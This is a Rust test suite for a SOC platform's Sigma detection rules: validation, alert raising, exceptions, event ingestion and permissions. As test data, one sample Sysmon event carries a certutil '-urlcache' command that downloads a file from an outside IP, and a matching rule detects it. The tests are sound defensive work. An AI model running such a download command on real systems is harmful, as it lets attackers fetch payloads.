//! Detection rules: refused with the parser's message and line when they do not compile, run on
//! every ingested alert and on pushed events, raising alerts with the rule's level and ATT&CK
//! tags; disabled rules and exceptions stay silent.

use super::{Soc, fixture};
use platform::access::Role;
use serde_json::{Value, json};
use testapp::ResponseExt;

const RDP_RULE: &str = "title: RDP logon failures from the internet
id: 3c8f1a2b-9d4e-4f5a-8b6c-7d8e9f0a1b2c
status: experimental
description: Failed remote-desktop logons, a brute-force sign.
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4625
        LogonType: 10
    filter_internal:
        IpAddress|cidr: '10.0.0.0/8'
    condition: selection and not filter_internal
level: high
tags:
    - attack.credential_access
    - attack.t1110.001
";

async fn create_rule(soc: &Soc, yaml: &str) -> Value {
    soc.post("/v1/detection-rules", &json!({"yaml": yaml})).await.expect_json(201).await
}

#[tokio::test]
async fn a_rule_that_does_not_parse_is_refused_with_the_parsers_message_and_line() {
    let soc = Soc::start().await;
    let broken_yaml = RDP_RULE.replace("        LogonType: 10\n", "        LogonType: [10\n");
    let unknown_modifier = RDP_RULE.replace("IpAddress|cidr", "IpAddress|nosuchmodifier");
    let bad_condition = RDP_RULE
        .replace("selection and not filter_internal", "selection and not missing_selection");
    for (yaml, line) in
        [(broken_yaml, "line "), (unknown_modifier, "line 13"), (bad_condition, "line 14")]
    {
        let problem = soc.post("/v1/detection-rules", &json!({"yaml": yaml})).await.problem().await;
        assert_eq!((problem.status, problem.code.as_str()), (422, "VALIDATION_FAILED"));
        let error = &problem.errors[0];
        assert_eq!((error.field.as_str(), error.code.as_str()), ("yaml", "INVALID_RULE"));
        assert!(error.message.starts_with(line), "{}", error.message);
    }
    let bad_exception = json!({"yaml": RDP_RULE, "exceptions": [{"User": {"nested": true}}]});
    let problem = soc.post("/v1/detection-rules", &bad_exception).await.problem().await;
    assert_eq!(
        (problem.errors[0].field.as_str(), problem.errors[0].code.as_str()),
        ("exceptions[0]", "INVALID_EXCEPTION")
    );
    assert_eq!(soc.count("detection_rules").await, 0);
}

#[tokio::test]
async fn an_ingested_alert_matching_a_rule_raises_an_alert_with_the_rules_level_and_tags() {
    let soc = Soc::start().await;
    let rule = create_rule(&soc, RDP_RULE).await;
    assert_eq!(
        (rule["title"].as_str(), rule["level"].as_str()),
        (Some("RDP logon failures from the internet"), Some("high"))
    );
    assert_eq!(rule["sigma_id"], "3c8f1a2b-9d4e-4f5a-8b6c-7d8e9f0a1b2c");
    let report =
        soc.ingest("/v1/alerts/ingest/wazuh", &fixture("wazuh-4x-rdp-bruteforce.json")).await;
    let parent = report["accepted"][0]["id"].as_str().unwrap();
    let detection = &report["detections"][0];
    assert_eq!(
        (detection["rule_id"].as_str(), detection["outcome"].as_str()),
        (rule["id"].as_str(), Some("created"))
    );
    let raised = soc.alert(detection["alert_id"].as_str().unwrap()).await;
    assert_eq!(raised["source"], "sigma");
    assert_eq!(raised["severity"], "high");
    assert_eq!(raised["title"], "RDP logon failures from the internet");
    assert_eq!(raised["description"], "Failed remote-desktop logons, a brute-force sign.");
    assert_eq!(raised["detection_rule_id"], rule["id"]);
    assert_eq!(raised["parent_alert_id"], parent);
    let attack = &raised["finding"]["finding_info"]["attacks"][0];
    assert_eq!(
        (attack["sub_technique"]["uid"].as_str(), attack["tactic"]["uid"].as_str()),
        (Some("T1110.001"), Some("TA0006"))
    );
    assert_eq!(raised["finding"]["metadata"]["product"]["name"], "Palisade Sigma");
    // It carries the Wazuh alert's indicators, so it can be found and correlated by them.
    let by_ip = soc.get("/v1/alerts?observable=203.0.113.77&source=sigma").await;
    assert_eq!(by_ip["items"][0]["id"], raised["id"]);
    let by_rule =
        soc.get(&format!("/v1/alerts?detection_rule_id={}", rule["id"].as_str().unwrap())).await;
    assert_eq!(by_rule["items"].as_array().unwrap().len(), 1);
    // The same alert again (a new source id): both fold, nothing multiplies.
    let mut again = fixture("wazuh-4x-rdp-bruteforce.json");
    again["id"] = json!("1742265999.1");
    let report = soc.ingest("/v1/alerts/ingest/wazuh", &again).await;
    assert_eq!(report["detections"][0]["outcome"], "folded");
    assert_eq!(soc.count("alerts").await, 2);
}

#[tokio::test]
async fn a_disabled_rule_or_an_exception_keeps_a_matching_alert_silent() {
    let soc = Soc::start().await;
    let rule = create_rule(&soc, RDP_RULE).await;
    let id = rule["id"].as_str().unwrap();
    let disabled: Value = soc
        .post(&format!("/v1/detection-rules/{id}/disable"), &json!({}))
        .await
        .expect_json(200)
        .await;
    assert_eq!(disabled["enabled"], false);
    let push = |n: u32| {
        let mut alert = fixture("wazuh-4x-rdp-bruteforce.json");
        alert["id"] = json!(format!("1742265667.{n}"));
        alert
    };
    assert_eq!(soc.ingest("/v1/alerts/ingest/wazuh", &push(1)).await["detections"], json!([]));
    soc.post(&format!("/v1/detection-rules/{id}/enable"), &json!({}))
        .await
        .expect_json::<Value>(200)
        .await;
    let excepted =
        json!({"exceptions": [{"WorkstationName": "kali", "TargetUserName|startswith": "admin"}]});
    let updated: Value = soc
        .app
        .send_as(
            reqwest::Method::PATCH,
            &soc.admin.token,
            &format!("/v1/detection-rules/{id}"),
            &excepted,
        )
        .await
        .expect_json(200)
        .await;
    assert_eq!(updated["exceptions"].as_array().unwrap().len(), 1);
    assert_eq!(soc.ingest("/v1/alerts/ingest/wazuh", &push(2)).await["detections"], json!([]));
    let cleared = json!({"exceptions": []});
    soc.app
        .send_as(
            reqwest::Method::PATCH,
            &soc.admin.token,
            &format!("/v1/detection-rules/{id}"),
            &cleared,
        )
        .await;
    assert_eq!(
        soc.ingest("/v1/alerts/ingest/wazuh", &push(3)).await["detections"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

#[tokio::test]
async fn pushed_events_only_raise_the_alerts_of_matching_rules() {
    let soc = Soc::start().await;
    let yaml = "title: Certutil download
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\\certutil.exe'
        CommandLine|contains|windash: '-urlcache'
    condition: selection
level: medium
tags:
    - attack.command_and_control
    - attack.t1105
";
    create_rule(&soc, yaml).await;
    let event = |event_id: u32, command: &str| {
        json!({"Event": {
            "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": event_id,
                       "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "LAPTOP-HR-22",
                       "TimeCreated": {"#attributes": {"SystemTime": "2026-02-02T08:00:00.000Z"}}},
            "EventData": {"UtcTime": "2026-02-02 08:00:00.000", "Image": "C:\\Windows\\System32\\certutil.exe",
                          "CommandLine": command, "User": "CORP\\dana"}
        }})
    };
    let body = json!([
        event(1, "certutil /urlcache -f http://198.51.100.23/p.bin p.bin"),
        event(1, "certutil -store my"),
        event(7, "certutil -urlcache x"),
        "junk"
    ]);
    let report = soc.ingest("/v1/alerts/events", &body).await;
    assert_eq!(report["accepted"], json!([]));
    assert_eq!(report["detections"].as_array().unwrap().len(), 1);
    assert_eq!(report["detections"][0]["index"], 0);
    assert_eq!(report["rejected"][0]["index"], 3);
    let raised = soc.alert(report["detections"][0]["alert_id"].as_str().unwrap()).await;
    assert_eq!(
        (raised["severity"].as_str(), raised["event_time"].as_str()),
        (Some("medium"), Some("2026-02-02T08:00:00Z"))
    );
    let hosts = soc.get("/v1/alerts?observable=laptop-hr-22&observable_type=hostname").await;
    assert_eq!(hosts["items"].as_array().unwrap().len(), 1);
    assert_eq!(soc.count("alerts").await, 1, "the events themselves are not stored");
}

#[tokio::test]
async fn rules_are_read_by_analysts_and_managed_by_detection_engineers_only() {
    let soc = Soc::start().await;
    let engineer = soc.member("de@soc.test", Role::DETECTION_ENGINEER).await;
    let hunter = soc.member("th@soc.test", Role::THREAT_HUNTER).await;
    let created: Value = soc
        .app
        .post_as(&engineer.token, "/v1/detection-rules", &json!({"yaml": RDP_RULE}))
        .await
        .expect_json(201)
        .await;
    let duplicate = soc
        .app
        .post_as(&engineer.token, "/v1/detection-rules", &json!({"yaml": RDP_RULE}))
        .await
        .problem()
        .await;
    assert_eq!((duplicate.status, duplicate.code.as_str()), (409, "CONFLICT"));
    let refused =
        soc.app.post_as(&hunter.token, "/v1/detection-rules", &json!({"yaml": RDP_RULE})).await;
    assert_eq!(refused.status(), 403);
    let test = soc
        .app
        .post_as(
            &hunter.token,
            "/v1/detection-rules/test",
            &json!({"yaml": RDP_RULE, "events": [{}]}),
        )
        .await;
    assert_eq!(test.status(), 403);
    let listed: Value = soc
        .app
        .get_as(&hunter.token, "/v1/detection-rules?enabled=true")
        .await
        .expect_json(200)
        .await;
    assert_eq!(listed["items"][0]["id"], created["id"]);
    let id = created["id"].as_str().unwrap();
    let deleted = soc
        .app
        .send_as(
            reqwest::Method::DELETE,
            &engineer.token,
            &format!("/v1/detection-rules/{id}"),
            &json!({}),
        )
        .await;
    assert_eq!(deleted.status(), 204);
    assert_eq!(
        soc.app.get_as(&hunter.token, &format!("/v1/detection-rules/{id}")).await.status(),
        404
    );
    let actions = soc.app.audit_actions().await;
    assert!(
        actions.contains(&"detection_rule.create".to_string())
            && actions.contains(&"detection_rule.delete".to_string())
    );
}
